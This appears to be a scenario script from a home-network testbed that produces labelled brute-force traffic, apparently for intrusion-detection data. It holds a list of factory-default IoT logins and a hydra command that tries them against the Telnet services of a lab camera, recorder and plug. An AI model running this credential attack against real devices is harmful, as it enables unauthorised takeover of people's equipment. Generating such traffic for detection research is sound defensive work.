# The visitor's computer, 192.168.10.66, tries names and passwords that devices are sold with at the
# Telnet logins of camera, recorder and plug with hydra; the recorder's is among them.
topology=home
file=home-passwords.pcap.gz
class=bruteforce
family=telnet-hydra
rule=SRC:192.168.10.66:bruteforce
tools=(hydra:hydra)

play() {
  local device
  home_day 150
  sleep 25
  printf '%s\n' root:root root:admin admin:admin root:888888 root:default root:juantech root:123456 root:54321 \
    support:support root: admin:password root:12345 user:user admin: root:pass admin:admin1234 root:1111 \
    admin:smcadmin admin:1111 root:666666 root:password root:1234 root:klv123 Administrator:admin \
    service:service guest:guest root:xc3511 >"$work/defaults"
  for device in 20 23 21; do
    inside visitor timeout 60 hydra -I -t 4 -f -C "$work/defaults" "telnet://192.168.10.$device" >>"$work/hydra.log" 2>&1 || true
  done
  grep 'login:' "$work/hydra.log" || echo "testbed: hydra did not get in" >&2
  sleep 20
}
